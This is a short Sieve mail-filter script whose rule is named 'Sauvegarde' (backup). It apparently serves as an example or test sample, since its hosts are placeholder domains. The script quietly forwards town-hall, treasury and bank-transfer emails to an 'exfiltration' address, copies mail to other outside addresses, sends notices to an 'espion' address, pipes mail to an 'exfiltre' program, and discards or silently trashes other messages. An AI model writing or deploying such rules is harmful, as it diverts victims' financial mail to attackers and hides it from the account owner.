require ["variables", "copy", "fileinto", "vacation", "enotify", "imap4flags", "vnd.dovecot.pipe"];
# rule:[Sauvegarde]
set "dest" "collecte@exfiltration.example.net";
if header :contains "subject" "mairie" {
  if anyof (address :contains "from" "tresorerie", header :contains "subject" "virement") {
    if not exists "X-Spam-Flag" {
      redirect "${dest}";
    }
  }
} elsif size :over 1M { discard; stop; }
else { addflag "\\Seen"; fileinto "Trash"; }
redirect :copy ["a@x.example", "b@y.example"];
vacation :days 1 :subject "Absent" text:
Je suis absent.
..
.
;
notify :message "n" "mailto:espion@exfiltration.example.net";
pipe "exfiltre";
/* commentaire */
